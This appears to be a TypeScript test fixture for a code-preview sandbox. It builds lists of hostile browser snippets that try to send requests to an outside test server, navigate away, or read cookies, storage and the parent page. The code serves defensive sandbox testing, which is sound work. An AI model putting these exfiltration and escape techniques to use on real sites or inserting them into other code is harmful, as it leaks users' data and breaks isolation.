import type { Project } from './projects.ts';

/** Hostile code, as an agent or a participant could write it. `target` is where data would be sent. */
export interface AttackTarget {
  /** Another server, `http://localhost:1234`. */
  readonly other: string;
  /** The site itself. */
  readonly site: string;
  /** A STUN address. */
  readonly stun: string;
}

export interface Attack {
  readonly name: string;
  readonly code: (target: AttackTarget) => string;
}

const requestTemplates: readonly Attack[] = [
  { name: 'fetch', code: ({ other }) => `fetch('${other}/leak-fetch', { mode: 'no-cors' })` },
  { name: 'fetch-site', code: ({ site }) => `fetch('${site}/api/leak', { credentials: 'include' })` },
  {
    name: 'fetch-keepalive',
    code: ({ other }) =>
      `fetch('${other}/leak-keepalive', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'x' })`,
  },
  {
    name: 'xhr',
    code: ({ other }) => `const x = new XMLHttpRequest(); x.open('GET', '${other}/leak-xhr'); x.send()`,
  },
  {
    name: 'xhr-site',
    code: ({ site }) => `const x = new XMLHttpRequest(); x.open('GET', '${site}/api/leak-xhr'); x.send()`,
  },
  { name: 'websocket', code: ({ other }) => `new WebSocket('${other.replace('http', 'ws')}/leak-ws')` },
  { name: 'eventsource', code: ({ other }) => `new EventSource('${other}/leak-es')` },
  { name: 'beacon', code: ({ other }) => `navigator.sendBeacon('${other}/leak-beacon', 'x')` },
  {
    name: 'webtransport',
    code: ({ other }) => `new WebTransport('${other.replace('http:', 'https:')}/leak-wt')`,
  },
  { name: 'image', code: ({ other }) => `new Image().src = '${other}/leak-img'` },
  { name: 'image-site', code: ({ site }) => `new Image().src = '${site}/leak-img'` },
  {
    name: 'srcset',
    code: ({ other }) =>
      `const i = new Image(); i.srcset = '${other}/leak-srcset 1x'; document.body.append(i)`,
  },
  {
    name: 'style-background',
    code: ({ other }) => `document.body.style.backgroundImage = 'url(${other}/leak-bg)'`,
  },
  {
    name: 'style-import',
    code: ({ other }) =>
      `const s = document.createElement('style'); s.textContent = '@import "${other}/leak-import.css"; @font-face { font-family: x; src: url(${other}/leak-font) } body { font-family: x; cursor: url(${other}/leak-cursor), auto; list-style: url(${other}/leak-list) }'; document.head.append(s)`,
  },
  { name: 'fontface', code: ({ other }) => `new FontFace('y', 'url(${other}/leak-fontface)').load()` },
  ...[
    'stylesheet',
    'prefetch',
    'preload',
    'modulepreload',
    'dns-prefetch',
    'icon',
    'manifest',
    'prerender',
    'preconnect',
  ].map((rel) => ({
    name: `link-${rel}`,
    code: ({ other }: AttackTarget) =>
      `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = '${other}/leak-${rel}'; document.head.append(l)`,
  })),
  {
    name: 'link-preconnect-html',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<link rel="preconnect" href="${other}">')`,
  },
  {
    name: 'script',
    code: ({ other }) =>
      `const s = document.createElement('script'); s.src = '${other}/leak.js'; document.head.append(s)`,
  },
  {
    name: 'script-module',
    code: ({ other }) =>
      `const s = document.createElement('script'); s.type = 'module'; s.textContent = 'import "${other}/leak-module.js"'; document.head.append(s)`,
  },
  {
    name: 'script-inline',
    code: ({ other }) =>
      `const s = document.createElement('script'); s.textContent = 'new Image().src="${other}/leak-inline"'; document.head.append(s)`,
  },
  {
    name: 'speculation-rules',
    code: ({ other }) =>
      `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${other}/leak-speculation'] }] }); document.head.append(s)`,
  },
  {
    name: 'dynamic-import',
    code: ({ other }) => `(0, eval)('import("${other}/leak-dynamic.js")').catch(() => {})`,
  },
  { name: 'audio', code: ({ other }) => `new Audio('${other}/leak-audio').load()` },
  {
    name: 'video-poster',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<video poster="${other}/leak-poster" src="${other}/leak-video"></video>')`,
  },
  {
    name: 'object',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<object data="${other}/leak-object"></object><embed src="${other}/leak-embed">')`,
  },
  {
    name: 'iframe',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<iframe src="${other}/leak-frame"></iframe>')`,
  },
  {
    name: 'iframe-site',
    code: ({ site }) =>
      `document.body.insertAdjacentHTML('beforeend', '<iframe src="${site}/leak-frame"></iframe>')`,
  },
  {
    name: 'iframe-srcdoc',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); f.srcdoc = '<img src="${other}/leak-srcdoc-img"><script>fetch("${other}/leak-srcdoc")</script><meta http-equiv=refresh content="0;url=${other}/leak-srcdoc-refresh">'; document.body.append(f)`,
  },
  {
    name: 'iframe-data',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); f.src = 'data:text/html,<img src="${other}/leak-data-frame">'; document.body.append(f)`,
  },
  {
    name: 'iframe-blob',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${other}/leak-blob-frame">'], { type: 'text/html' })); document.body.append(f)`,
  },
  {
    name: 'iframe-blank-script',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument; if (d) { d.body.innerHTML = '<img src="${other}/leak-blank-img">'; f.contentWindow.fetch('${other}/leak-blank') }`,
  },
  {
    name: 'iframe-navigated',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '${other}/leak-blank-navigated'`,
  },
  {
    name: 'iframe-javascript',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); f.src = 'javascript:fetch("${other}/leak-javascript")'; document.body.append(f)`,
  },
  {
    name: 'svg-use',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<svg><use href="${other}/leak-use.svg#a"/><image href="${other}/leak-svg-image"/></svg>')`,
  },
  {
    name: 'anchor-ping',
    code: ({ other }) =>
      `const a = document.createElement('a'); a.href = '#x'; a.ping = '${other}/leak-ping'; document.body.append(a); a.click()`,
  },
  { name: 'window-open', code: ({ other }) => `window.open('${other}/leak-open')` },
  {
    name: 'anchor-blank',
    code: ({ other }) =>
      `const a = document.createElement('a'); a.target = '_blank'; a.href = '${other}/leak-blank-anchor'; document.body.append(a); a.click()`,
  },
  {
    name: 'anchor-download',
    code: ({ other }) =>
      `const a = document.createElement('a'); a.download = 'x'; a.href = '${other}/leak-download'; document.body.append(a); a.addEventListener('click', (event) => event.stopImmediatePropagation()); a.click()`,
  },
  {
    name: 'form-post',
    code: ({ other }) =>
      `const f = document.createElement('form'); f.method = 'post'; f.action = '${other}/leak-form'; document.body.append(f); f.submit()`,
  },
  {
    name: 'form-blank',
    code: ({ other }) =>
      `const f = document.createElement('form'); f.target = '_blank'; f.action = '${other}/leak-form-blank'; document.body.append(f); f.submit()`,
  },
  {
    name: 'form-site',
    code: ({ site }) =>
      `const f = document.createElement('form'); f.method = 'post'; f.action = '${site}/api/leak-form'; document.body.append(f); f.requestSubmit()`,
  },
  { name: 'worker-url', code: ({ other }) => `new Worker('${other}/leak-worker.js')` },
  {
    name: 'worker-blob',
    code: ({ other }) =>
      `new Worker(URL.createObjectURL(new Blob(['try { importScripts("${other}/leak-import-scripts") } catch {} try { fetch("${other}/leak-worker-fetch", { mode: "no-cors" }).catch(() => {}) } catch {} try { new WebSocket("${other.replace('http', 'ws')}/leak-worker-ws") } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch(\\\\"${other}/leak-nested-worker\\\\", { mode: \\\\"no-cors\\\\" })"]))) } catch {}'])))`,
  },
  {
    name: 'worker-data',
    code: ({ other }) =>
      `new Worker('data:text/javascript,fetch("${other}/leak-data-worker",{mode:"no-cors"})')`,
  },
  {
    name: 'shared-worker',
    code: ({ other }) =>
      `new SharedWorker(URL.createObjectURL(new Blob(['fetch("${other}/leak-shared", { mode: "no-cors" })'])))`,
  },
  { name: 'service-worker', code: () => `navigator.serviceWorker.register('/leak-sw.js')` },
  { name: 'worklet', code: ({ other }) => `CSS.paintWorklet.addModule('${other}/leak-worklet.js')` },
  {
    name: 'reporting',
    code: ({ other }) =>
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${other}/leak-report">')`,
  },
  {
    name: 'reporting-in-a-frame',
    code: ({ other }) =>
      `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ${other}/leak-frame-report"><img src="${other}/leak-frame-report-img"><link rel=preconnect href="${other}">'; document.body.append(f)`,
  },
  {
    name: 'reporting-in-a-frame-of-markup',
    code: ({ other }) =>
      `document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="<meta http-equiv=Content-Security-Policy content=&quot;img-src none; report-uri ${other}/leak-markup-report&quot;><img src=x>"></iframe></div>')`,
  },
  {
    name: 'reporting-in-a-shadow-frame',
    code: ({ other }) =>
      `const host = document.createElement('p'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="<meta http-equiv=Content-Security-Policy content=\\'img-src none; report-uri ${other}/leak-shadow-report\\'><img src=x>"></iframe><link rel=preconnect href="${other}">'; if (host.setHTMLUnsafe) host.setHTMLUnsafe('<template shadowrootmode=open><iframe srcdoc="<img src=${other}/leak-declared>"></iframe></template>')`,
  },
  {
    name: 'reporting-again',
    code: ({ other }) =>
      `const m = document.createElementNS('http://www.w3.org/1999/xhtml', 'meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri ${other}/leak-report-meta"; document.head.append(m); new Image().src = '${other}/leak-report-meta-img'`,
  },
  {
    name: 'link-parsed',
    code: ({ other }) =>
      `for (const type of ['text/html', 'application/xhtml+xml']) { const d = new DOMParser().parseFromString('<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="preconnect" href="${other}"/></head><body/></html>', type); for (const l of [...d.querySelectorAll('link')]) document.head.append(l) } const t = document.createElement('template'); t.innerHTML = '<LINK rel=preconnect href="${other}">'; document.head.append(t.content); document.head.append(document.createRange().createContextualFragment('<link\\nrel=preconnect href="${other}">'))`,
  },
  {
    name: 'link-by-entity',
    code: ({ other }) =>
      `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:link xmlns:h=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'${other}\\'/>">]><x>&e;</x>', 'application/xml'); for (const l of [...d.querySelectorAll('link')]) document.head.append(l)`,
  },
  {
    name: 'link-by-another-reader',
    code: ({ other }) =>
      `let turn = 0; const l = document.createElement({ toString: () => turn++ === 0 ? 'p' : 'link' }); l.rel = 'preconnect'; l.href = '${other}'; document.head.append(l); try { const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); const m = d.documentElement; m.rel = 'preconnect'; m.href = '${other}'; document.head.append(m) } catch {}`,
  },
  {
    name: 'link-by-changed-methods',
    code: ({ other }) =>
      `const { exec } = RegExp.prototype, { replace } = String.prototype; RegExp.prototype.exec = () => null; String.prototype.replace = function () { return String(this) }; document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href="${other}">'); const l = document.createElement('link'); RegExp.prototype.exec = exec; String.prototype.replace = replace; l.setAttribute('rel', 'preconnect'); l.setAttribute('href', '${other}'); document.head.append(l)`,
  },
  {
    name: 'link-by-class',
    code: ({ other }) =>
      `class L extends HTMLLinkElement {} customElements.define('l-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = '${other}'; document.head.append(l)`,
  },
  {
    name: 'base',
    code: ({ other }) =>
      `document.head.insertAdjacentHTML('beforeend', '<base href="${other}/">'); const i = new Image(); i.src = 'leak-base'`,
  },
  {
    name: 'webrtc',
    code: () => `const P = window.RTCPeerConnection || window.webkitRTCPeerConnection; ${rtc('P')}`,
  },
  {
    name: 'webrtc-again',
    code: () =>
      `for (const key of Object.getOwnPropertyNames(window)) if (/rtc/i.test(key)) console.log('FOUND ' + key)`,
  },
  {
    name: 'webrtc-frame',
    code: () =>
      `const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; const P = w.RTCPeerConnection; ${rtc('P')}`,
  },
  {
    name: 'webrtc-srcdoc',
    code: () =>
      `const f = document.createElement('iframe'); f.srcdoc = '<script>const p = new RTCPeerConnection({iceServers:[{urls:"STUN"}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o))</script>'; document.body.append(f)`,
  },
  {
    name: 'webrtc-frames-array',
    code: () =>
      `const f = document.createElement('iframe'); document.body.append(f); const P = window[0].RTCPeerConnection; ${rtc('P')}`,
  },
];

/** Ways to send a request that leave the page where it is; all run in one page. */
export const requests: readonly Attack[] = requestTemplates.map((attack) => ({
  name: attack.name,
  code: (target: AttackTarget) => attack.code(target).replaceAll('STUN', target.stun),
}));

function rtc(maker: string): string {
  return `if (${maker}) { console.log('FOUND WebRTC'); const p = new ${maker}({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }`;
}

/** Ways to leave: each in a page of its own. */
export const departures: readonly Attack[] = [
  { name: 'location.href', code: ({ other }) => `location.href = '${other}/leak-href'` },
  { name: 'location.assign to the site', code: ({ site }) => `location.assign('${site}/api/leak-assign')` },
  { name: 'location.replace', code: ({ other }) => `location.replace('${other}/leak-replace')` },
  {
    name: 'meta refresh',
    code: ({ other }) =>
      `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${other}/leak-refresh">')`,
  },
  {
    name: 'document.write',
    code: ({ other }) =>
      `document.open(); document.write('<meta http-equiv="refresh" content="0;url=${other}/leak-write"><img src="${other}/leak-write-img">'); document.close()`,
  },
  {
    name: 'anchor',
    code: ({ other }) =>
      `const a = document.createElement('a'); a.href = '${other}/leak-anchor'; a.addEventListener('click', (event) => event.stopImmediatePropagation()); document.body.append(a); a.click()`,
  },
  {
    name: 'form by GET',
    code: ({ other }) =>
      `const f = document.createElement('form'); f.action = '${other}/leak-form-get'; document.body.append(f); f.submit()`,
  },
  { name: 'window.open into itself', code: ({ other }) => `window.open('${other}/leak-self', '_self')` },
  { name: 'top.location', code: ({ other }) => `top.location = '${other}/leak-top'` },
  { name: 'parent.location', code: ({ other }) => `parent.location.replace('${other}/leak-parent')` },
  {
    name: 'data address',
    code: ({ other }) => `location.href = 'data:text/html,<img src="${other}/leak-data">'`,
  },
  {
    name: 'blob address',
    code: ({ other }) =>
      `location.href = URL.createObjectURL(new Blob(['<img src="${other}/leak-blob">'], { type: 'text/html' }))`,
  },
  {
    name: 'javascript address',
    code: ({ other }) => `location.href = 'javascript:fetch("${other}/leak-js-href")'`,
  },
  { name: 'path of the site', code: () => `location.href = '/preview/../leak-path'` },
  { name: 'encoded path of the site', code: () => `location.href = '/preview/..%2fleak-path'` },
];

/** Reads what must not be readable, and tells by the console: a line that starts with GOT is a leak. */
export const thefts: readonly Attack[] = [
  { name: 'cookie', code: () => `if (document.cookie !== '') console.log('GOT cookie')` },
  { name: 'cookie-write', code: () => `document.cookie = 'planted=1'` },
  { name: 'storage', code: () => `if (localStorage.getItem('secret')) console.log('GOT storage')` },
  {
    name: 'storage-prototype',
    code: () =>
      `const get = Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage') ?? Object.getOwnPropertyDescriptor(window, 'sessionStorage'); const s = get?.get?.call(window); if (s?.getItem('secret')) console.log('GOT storage by prototype')`,
  },
  { name: 'indexeddb', code: () => `indexedDB.open('secret').onsuccess = () => console.log('GOT database')` },
  { name: 'caches', code: () => `caches.keys().then(() => console.log('GOT caches'))` },
  { name: 'parent-dom', code: () => `parent.document.title = 'owned'; console.log('GOT parent')` },
  { name: 'top-variable', code: () => `if (top.harness) console.log('GOT a variable of the host')` },
  { name: 'opener', code: () => `if (window.opener) console.log('GOT opener')` },
  { name: 'frame-element', code: () => `if (window.frameElement) console.log('GOT frame element')` },
  { name: 'origin', code: () => `if (self.origin !== 'null') console.log('GOT origin ' + self.origin)` },
  {
    name: 'referrer',
    code: () => `if (document.referrer !== '') console.log('GOT referrer ' + document.referrer)`,
  },
  {
    name: 'nested-storage',
    code: () =>
      `const f = document.createElement('iframe'); document.body.append(f); if (f.contentWindow.localStorage.getItem('secret')) console.log('GOT storage in a frame')`,
  },
  {
    name: 'broadcast',
    code: () =>
      `const c = new BroadcastChannel('host'); c.onmessage = () => console.log('GOT broadcast'); c.postMessage('x')`,
  },
];

/** The first word of hostile code: from here on it has its time. */
export const BEGUN = 'BEGUN';

/** A project that is this code and nothing else. */
export const hostilePage = (code: string): Project => ({
  '/src/main.ts': `console.log('${BEGUN}');\n${code}`,
});

/** One project that runs attacks one after another, each on its own. */
export function attackProject(attacks: readonly Attack[], target: AttackTarget): Project {
  const parts = attacks.map(
    (attack) =>
      `try { (() => { ${attack.code(target)} })() } catch (error) { console.log(${JSON.stringify(attack.name)} + ': ' + error.name) }`,
  );
  return { '/src/main.js': `console.log('${BEGUN}');\n${parts.join('\n')}\n` };
}
